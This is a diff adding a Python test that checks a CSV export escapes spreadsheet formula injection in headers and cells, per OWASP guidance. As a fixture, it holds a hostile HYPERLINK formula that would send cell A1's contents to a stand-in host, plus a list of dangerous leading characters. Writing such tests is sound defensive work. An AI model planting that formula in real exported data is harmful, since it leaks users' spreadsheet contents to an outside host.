@@ -236,3 +236,24 @@ def test_csv_cells_never_start_a_formula() -> None:
 
     records = build_records([info("x", village({"=cmd()": 3, "Bo": 2}))]).records
     assert "'=cmd()" in results_csv(records)
+
+
+def test_csv_header_and_every_cell_is_safe_from_formulas() -> None:
+    """Issue 22.5: a score-category name from an imported game reaches the header row;
+    it must arrive as text ('=HYPERLINK…), like every other cell (OWASP: leading =, +,
+    -, @, tab, CR get a ', and every cell is quoted)."""
+    from tests.history.helpers import info, village
+
+    hostile = '=HYPERLINK("http://x.example/?"&A1,"click")'
+    names = {"+Ann": 3, "-Bo": 2, "@Cy": 1, "\tDee": 0, "\rEd": 0}
+    cats = {n: {hostile: 1, "coins": 2} for n in names}
+    records = build_records([info("x", village(names, categories=cats),
+                                  title="=1+1")]).records
+    text = results_csv(records)
+    rows = list(csv.reader(io.StringIO(text)))
+    dangerous = ("=", "+", "-", "@", "\t", "\r")
+    assert rows[0][-2:] == ["'" + hostile, "coins"]
+    assert all(not cell.startswith(dangerous) for row in rows for cell in row)
+    player = rows[0].index("player")
+    assert {"'+Ann", "'-Bo", "'@Cy"} <= {r[player] for r in rows[1:]}
+    assert all(line.startswith('"') for line in text.splitlines() if line)
